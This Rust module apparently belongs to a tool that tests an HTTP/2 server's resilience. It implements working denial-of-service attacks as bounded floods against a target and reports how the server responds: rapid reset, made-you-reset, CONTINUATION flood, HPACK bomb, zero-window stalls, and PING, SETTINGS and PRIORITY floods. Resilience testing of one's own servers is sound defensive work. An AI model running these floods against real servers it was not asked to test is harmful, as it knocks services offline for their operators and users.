//! Attacks by frames of HTTP/2.

use std::time::Duration;

use anyhow::Result;
use tokio::time::{Instant, sleep, timeout};

use crate::{
    raw::{
        Io, ended,
        http2::{END_HEADERS, END_STREAM, Http2, PREFACE, block, fields, indexed, kind},
    },
    target::Target,
};

type Connection = Http2<Box<dyn Io>>;

/// Time in which silence has been ended, or has done its harm.
const PATIENCE: Duration = Duration::from_secs(12);
/// Longest flood.
const FLOOD: Duration = Duration::from_secs(3);
/// Time for the last answer.
const LAST: Duration = Duration::from_secs(1);
/// SETTINGS_INITIAL_WINDOW_SIZE.
const INITIAL_WINDOW: u16 = 4;

async fn open(target: &Target, settings: &[(u16, u32)]) -> Result<Connection> {
    Ok(Http2::open(target.stream().await?, settings).await?)
}

/// Repeats a step until the server has had enough, or the time is over; then says what it answered.
async fn flood<F>(connection: &mut Connection, mut step: F) -> Result<String>
where
    F: AsyncFnMut(&mut Connection) -> std::io::Result<()>,
{
    let until = Instant::now() + FLOOD;
    let mut steps = 0_u64;
    while Instant::now() < until && step(connection).await.is_ok() {
        steps += 1;
    }
    // It may have closed.
    let _ = connection.flush().await;
    Ok(format!("{steps} times; {}", connection.drain(LAST).await))
}

pub(super) async fn silent_prefaces(target: &Target) -> Result<String> {
    let mut streams = target.many(300, PREFACE, Duration::from_secs(8)).await;
    Ok(ended(&mut streams, PATIENCE).await.to_string())
}

/// Requests whose bodies do not end: two connections of 100, or as many as the server takes.
pub(super) async fn unfinished_bodies(target: &Target) -> Result<String> {
    let mut said = String::new();
    let mut held = Vec::new();
    for _ in 0..2 {
        let mut connection = open(target, &[]).await?;
        for _ in 0..100 {
            let Ok(stream) = connection.request(&fields("PUT", "/proxy-log-level"), 0).await else {
                break;
            };
            for _ in 0..4 {
                let _ = connection.frame(kind::DATA, 0, stream, &[b'a'; 15_000]).await;
            }
        }
        let _ = connection.flush().await;
        said = connection.drain(LAST).await.to_string();
        held.push(connection);
    }
    sleep(LAST).await;
    Ok(said)
}

pub(super) async fn rapid_reset(target: &Target) -> Result<String> {
    let mut connection = open(target, &[]).await?;
    flood(&mut connection, async |connection: &mut Connection| {
        let stream = connection.get("/bench").await?;
        connection.reset(stream).await
    })
    .await
}

/// Resets of requests that the server has accepted already, which its library does not count.
pub(super) async fn paced_reset(target: &Target) -> Result<String> {
    let mut connection = open(target, &[(INITIAL_WINDOW, 0)]).await?;
    flood(&mut connection, async |connection: &mut Connection| {
        let stream = connection.request(&fields("POST", "/bench"), 0).await?;
        connection.flush().await?;
        sleep(Duration::from_millis(2)).await;
        connection.reset(stream).await?;
        connection.flush().await
    })
    .await
}

/// Streams that the server must reset, while nothing that it says is read.
pub(super) async fn invalid_frames(target: &Target) -> Result<String> {
    let mut connection = open(target, &[]).await?;
    let bad = block(&[(":method", "GET"), (":path", "/"), ("connection", "x"), ("UPPER", "x")]);
    let mut stream = 1;
    flood(&mut connection, async |connection: &mut Connection| {
        let sent = connection
            .frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &bad)
            .await;
        stream += 2;
        sent
    })
    .await
}

/// Requests that are dispatched, then made invalid by a frame on the same stream.
pub(super) async fn made_you_reset(target: &Target) -> Result<String> {
    let mut connection = open(target, &[]).await?;
    let mut turn = 0_u32;
    flood(&mut connection, async |connection: &mut Connection| {
        let stream = connection.get("/bench").await?;
        turn += 1;
        match turn % 3 {
            0 => connection.window(stream, 0).await,
            1 => connection.window(stream, 0x7fff_ffff).await,
            _ => connection.frame(kind::DATA, 0, stream, b"after the end").await,
        }
    })
    .await
}

pub(super) async fn continuation(target: &Target) -> Result<String> {
    let mut connection = open(target, &[]).await?;
    connection
        .frame(kind::HEADERS, 0, 1, &block(&fields("GET", "/")))
        .await?;
    let more = block(&[("x", &"a".repeat(900))]);
    flood(&mut connection, async |connection: &mut Connection| {
        connection.frame(kind::CONTINUATION, 0, 1, &more).await
    })
    .await
}

/// One byte each refers to a large header of the dynamic table, in streams that are held open.
pub(super) async fn hpack_bomb(target: &Target) -> Result<String> {
    const REFERENCES: usize = 3;
    let mut held = Vec::new();
    let mut said = String::new();
    for _ in 0..2 {
        let mut connection = open(target, &[(INITIAL_WINDOW, 0)]).await?;
        let first = [block(&fields("POST", "/bench")), indexed("x-bomb", &"a".repeat(3_800))].concat();
        connection.frame(kind::HEADERS, END_HEADERS, 1, &first).await?;
        let newest = 0x80 | 0x3e;
        let bomb = [block(&fields("POST", "/bench")), vec![newest; REFERENCES]].concat();
        let (mut stream, mut opened) = (3, 0);
        while opened < 5_000
            && connection
                .frame(kind::HEADERS, END_HEADERS, stream, &bomb)
                .await
                .is_ok()
        {
            opened += 1;
            stream += 2;
        }
        let _ = connection.flush().await;
        said = format!("{opened} streams; {}", connection.drain(LAST).await);
        held.push(connection);
    }
    sleep(LAST).await;
    Ok(said)
}

/// Many short cookies, each of which is a header of its own until they are joined.
pub(super) async fn cookies(target: &Target) -> Result<String> {
    let mut connection = open(target, &[(INITIAL_WINDOW, 0)]).await?;
    let crumbs: Vec<(&str, &str)> = fields("POST", "/bench")
        .into_iter()
        .chain(std::iter::repeat_n(("cookie", "a"), 400))
        .collect();
    let request = block(&crumbs);
    let mut stream = 1;
    flood(&mut connection, async |connection: &mut Connection| {
        let sent = connection.frame(kind::HEADERS, END_HEADERS, stream, &request).await;
        stream += 2;
        sent
    })
    .await
}

pub(super) async fn empty_data(target: &Target) -> Result<String> {
    let mut connection = open(target, &[]).await?;
    let stream = connection.request(&fields("POST", "/bench"), 0).await?;
    flood(&mut connection, async |connection: &mut Connection| {
        connection.frame(kind::DATA, 0, stream, &[]).await
    })
    .await
}

pub(super) async fn pings(target: &Target) -> Result<String> {
    let mut connection = open(target, &[]).await?;
    flood(&mut connection, async |connection: &mut Connection| {
        connection.frame(kind::PING, 0, 0, &[7; 8]).await
    })
    .await
}

pub(super) async fn settings(target: &Target) -> Result<String> {
    let mut connection = open(target, &[]).await?;
    flood(&mut connection, async |connection: &mut Connection| {
        connection
            .settings(&[(INITIAL_WINDOW, 70_000), (INITIAL_WINDOW, 60_000)])
            .await
    })
    .await
}

pub(super) async fn priorities(target: &Target) -> Result<String> {
    let mut connection = open(target, &[]).await?;
    let mut stream = 1;
    flood(&mut connection, async |connection: &mut Connection| {
        stream = (stream + 2) & 0x7fff_ffff;
        connection.frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 1]).await
    })
    .await
}

/// Large answers that are asked for, but for which no window is opened.
pub(super) async fn window_zero(target: &Target) -> Result<String> {
    let mut said = String::new();
    let mut held = Vec::new();
    for _ in 0..2 {
        let mut connection = open(target, &[(INITIAL_WINDOW, 0)]).await?;
        let mut asked = 0;
        while asked < 1_000 && connection.get("/large").await.is_ok() {
            asked += 1;
        }
        let _ = connection.flush().await;
        said = format!("{asked} asked for; {}", connection.drain(FLOOD).await);
        held.push(connection);
    }
    Ok(said)
}

pub(super) async fn dripping_window(target: &Target) -> Result<String> {
    let mut connection = open(target, &[(INITIAL_WINDOW, 0)]).await?;
    let mut streams = Vec::new();
    for _ in 0..100 {
        streams.push(connection.get("/large").await?);
    }
    let mut turn = 0;
    flood(&mut connection, async |connection: &mut Connection| {
        turn += 1;
        let window = connection.window(streams[turn % streams.len()], 1).await;
        // What comes back is read, so that the connection's own window and the socket are not what ends it.
        let read = timeout(Duration::from_micros(50), connection.read()).await;
        if matches!(read, Ok(Ok(None) | Err(_))) {
            return Err(std::io::ErrorKind::ConnectionReset.into());
        }
        window
    })
    .await
}
